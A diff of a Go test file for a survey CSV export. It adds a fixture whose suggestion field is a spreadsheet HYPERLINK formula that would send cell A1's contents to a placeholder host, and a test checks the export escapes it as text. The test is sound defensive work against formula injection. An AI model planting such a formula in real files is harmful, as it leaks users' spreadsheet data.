@@ -116,8 +116,9 @@ func exportFixtures(t *testing.T, db *storage.DB) []exportResp {
 		{a, nil, "2026-01-07T04:15:00Z", storage.ResponseComplete, [9]int{3, 3, 3, 3, 3, 3, 3, 1, 0}, "", 0, "Toilet kotor"},
 		{a, nil, "2026-01-08T05:00:00Z", storage.ResponsePartial, [9]int{1}, "", 0, ""},
 		{a, nil, "2026-03-01T05:00:00Z", storage.ResponseComplete, [9]int{3, 3, 3, 3, 3, 3, 3, 3, 3}, "", 0, ""},
-		// Complete, but no element scored: exported, yet no respondent (scoring.Scored).
-		{a, nil, "2026-04-01T05:00:00Z", storage.ResponseComplete, [9]int{}, "P", 40, "Formulir kurang jelas"},
+		// Complete, but no element scored: exported, yet no respondent (scoring.Scored); its
+		// suggestion is a spreadsheet formula, exported as text.
+		{a, nil, "2026-04-01T05:00:00Z", storage.ResponseComplete, [9]int{}, "P", 40, `=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")`},
 	}
 	exportStore(t, db, rs)
 	return rs
@@ -165,8 +166,8 @@ func TestResponsesCSV(t *testing.T) {
 		}
 		t.Run("sukma score reads the export and counts the respondents the database counts", func(t *testing.T) {
 			body := exportGet(t, h, "/api/v1/responses.csv?unit=EXA&from=2026-01-01&to=2026-12-31").Body.String()
-			if !strings.Contains(body, "Formulir kurang jelas") {
-				t.Error("the complete response that scored no element is not exported")
+			if !strings.Contains(body, `"'=HYPERLINK(""http://contoh.invalid/?d=""&A1,""Klik"")"`) {
+				t.Errorf("the complete response that scored no element is not exported, or its formula not as text:\n%s", body)
 			}
 			tally, err := scoring.ReadCSV(strings.NewReader(body))
 			if err != nil {
